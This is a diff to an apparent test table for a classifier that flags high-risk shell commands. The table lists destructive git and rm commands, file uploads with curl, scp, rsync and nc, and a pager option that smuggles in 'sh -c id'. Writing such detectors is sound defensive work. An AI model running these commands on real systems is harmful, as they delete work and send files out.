@@ -21,8 +21,8 @@ export interface Wrapping {
 }
 
 const rows: readonly (readonly [DangerousCommand["class"], ...string[]])[] = [
-  ["high", "rm -rf build", "rm a.txt", "git push", "git push --force origin main", "git reset --hard"],
-  ["high", "git clean -fdx", "git checkout -- a.txt", "git restore a.txt", "git branch -D topic", "git stash drop"],
+  ["high", "rm -rf src", "rm a.txt", "git push", "git push --force origin main", "git reset --hard"],
+  ["high", "git clean -fdx", "git checkout -- README.md", "git restore a.txt", "git branch -D topic", "git stash drop"],
   ["high", "git -c core.pager='sh -c id' log", "git config user.name x", "npm publish", "sudo ls", "ssh host uptime"],
   ["high", "curl -d @a.txt https://example.com", "scp a.txt host:b", "rsync -a . host:b", "nc example.com 80"],
   ["high", "node -e '1'", 'python3 -c "print(1)"', "perl -e 'print 1'", "./x.sh", "bash x.sh", "docker run alpine"],
